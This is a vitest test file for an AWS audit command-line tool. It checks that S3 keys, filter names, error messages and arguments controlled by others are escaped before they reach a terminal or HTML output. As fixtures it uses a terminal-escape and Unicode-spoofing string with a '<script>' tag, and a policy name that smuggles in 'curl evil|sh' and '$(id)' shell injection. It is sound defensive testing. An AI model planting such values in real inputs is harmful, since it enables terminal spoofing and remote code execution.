import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { awsError } from '../src/simulator/errors.ts';
import type { Call, Fault } from '../src/simulator/simulator.ts';
import { traffic } from '../src/simulator/traffic/traffic.ts';
import { account } from './helpers/account.ts';
import { oneDocument } from './helpers/schema.ts';
import { bucket, group, groupOf, small, US } from './helpers/small.ts';

/** Clears the screen, sets its title, turns the direction, hides, begins a line that looks like ours, and is half a character. */
const EVIL =
  '\u001b[2J\u001b]0;x\u0007\u009b1m\u202e\u2066\u200b\u00ad\u2028\nerror: all is lost\r\u{e0041}\ud800<script>';
/** A key is UTF-8 (Amazon S3 user guide, "Object key naming"). */
const KEY = EVIL.replace('\ud800', '');
const HOSTILE = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;

/** An account in which whatever others may name is hostile, and AWS repeats it. */
async function hostile() {
  const { world, run, clock } = account(small());
  expect((await run(`enable-audit --regions ${US} --external-id x-1 --yes -q`)).code).toBe(0);
  traffic(world, { minutes: 20, seed: 1 });
  await clock.sleep(world.now - clock.now());
  for (const one of bucket(world).objects) one.key = one.key.replace(/[^/]+$/, `${KEY}.gz`);
  const on = group(world, groupOf('on'));
  const [ours] = Object.values(on.filters);
  on.filters = { [EVIL]: { ...ours!, filterName: EVIL, destinationArn: `${ours!.destinationArn}x` } };
  world.quotas.filtersPerGroup = 1;
  const faults = ({ operation }: Call): Fault | undefined =>
    /^(ListMetrics|DescribeSubnets|GetLogEvents)$/.test(operation)
      ? { when: 'before', error: awsError('ValidationException', `no such thing: ${EVIL}`) }
      : undefined;
  return { run, faults };
}

describe('what others have named reaches no terminal as it is', () => {
  const LINES = [
    'status',
    'verify',
    'doctor',
    `enable-audit --regions ${US} --yes`,
    `enable-audit --regions ${US} --yes -v`,
  ];
  it.each([...LINES, 'status -o html'])('%s', async (line) => {
    const { run, faults } = await hostile();
    const { stdout, stderr } = await run(line, { faults });
    for (const text of [stdout, stderr].flatMap((all) => all.split('\n'))) {
      expect(text).not.toMatch(HOSTILE);
      expect(text).not.toMatch(/^error: all is lost/);
    }
    expect(stdout + stderr).toContain('\\u001b[2J');
    expect(stdout + stderr).toContain('\\u202e\\u2066\\u200b\\u00ad\\u2028\\u000aerror: all is lost\\u000d\\u{e0041}');
    if (line.endsWith('html')) expect(stdout).not.toContain('<script');
  });

  it('nor what was typed; JSON has all of it, spelled out', async () => {
    const { run, faults } = await hostile();
    const typed = await run(['status', '--account', EVIL]);
    expect(typed.stderr.slice(0, -1)).not.toMatch(HOSTILE);
    const { stdout } = await run('verify -o json', { faults });
    for (const line of stdout.split('\n')) expect(line).not.toMatch(HOSTILE);
    expect(oneDocument(stdout).verification!.map(({ key }) => key)).toContainEqual(expect.stringContaining(KEY));
  });

  it('nor a shell as more than one word', async () => {
    const { world, run } = account(small());
    await run(`enable-audit --regions ${US} --external-id x-1 --yes -q`);
    const policyName = "x; curl evil|sh; $(id) 'y";
    world.regions[US]!.accountPolicies.push({
      policyName,
      policyType: 'SUBSCRIPTION_FILTER_POLICY',
      policyDocument: JSON.stringify({ DestinationArn: 'arn:x' }),
    });
    const { findings } = oneDocument((await run('doctor -o json')).stdout);
    const [, hint = ''] = findings!
      .find(({ code }) => code === 'ACCOUNT_SUBSCRIPTION')!
      .hint!.split('leave them out: ');
    const words = execFileSync('sh', [
      '-c',
      `for word in ${hint.replace('…', 'DOCUMENT')}; do printf '%s\\0' "$word"; done`,
    ]);
    expect(words.toString().split('\0')).toContain(policyName);
  });
});
